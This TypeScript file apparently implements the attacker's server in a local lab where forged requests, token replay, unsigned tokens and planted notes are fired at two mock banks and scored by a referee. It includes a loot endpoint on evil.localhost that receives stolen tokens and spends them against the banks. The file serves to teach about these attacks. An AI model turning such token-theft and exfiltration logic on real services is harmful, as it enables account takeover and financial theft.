import { serveStatic } from '@hono/node-server/serve-static'
import { Hono } from 'hono'
import { type Target, targets } from './forgeries.ts'
import { evilPage } from './pages.ts'
import type { Referee } from './referee.ts'
import type { Thief } from './thief.ts'

type Parts = {
  banks: Record<Target, string>
  /** The port of this site; it answers under any name. */
  port: number
  referee: Referee
  thief: Thief
  startOver(): void
}

/** The attacker's site. It answers under every name of its port, so it is also a sibling of either bank. */
export function createEvil({ banks, port, referee, thief, startOver }: Parts): Hono {
  const app = new Hono()

  app.get('/', (c) => {
    const here = new URL(c.req.url).host
    return c.html(evilPage({ banks, port, here, balances: referee.balances() }))
  })
  app.post('/shots/:forgery', async (c) => {
    if (referee.isBroke()) startOver()
    const begun = await referee.begin(c.req.param('forgery'))
    if (begun === null) return c.notFound()
    const { number, forgery } = begun
    if (forgery.id === 'copy') await thief.copy()
    if (forgery.id === 'replay') await thief.replay()
    if (forgery.id === 'unsigned') await thief.forgeToken()
    if (forgery.id === 'note') await thief.plantNote(`http://evil.localhost:${port}/loot?shot=${number}`)
    const { shot, path } = forgery
    const shots = targets.map((target) => {
      return { target, shot: shot?.(banks[target] + path[target], target) ?? null }
    })
    return c.json({ number, shots })
  })
  app.get('/shots/:number', (c) => {
    const findings = referee.judge(Number(c.req.param('number')))
    return findings === null ? c.notFound() : c.json(findings)
  })
  // Whatever the page could read, and whatever script in a bank's page could send.
  app.post('/loot/:number/:target', (c) => {
    const target = targets.find((one) => one === c.req.param('target'))
    if (target !== undefined) referee.loot(Number(c.req.param('number')), target)
    return c.body(null, 204)
  })
  app.get('/loot', async (c) => {
    const token = c.req.query('token') ?? ''
    if (token.includes('.')) for (const target of targets) await thief.spend(target, token)
    return c.body(null, 204)
  })
  app.post('/start-over', (c) => {
    startOver()
    return c.redirect('/', 303)
  })
  app.use(serveStatic({ root: new URL('./assets', import.meta.url).pathname }))
  return app
}
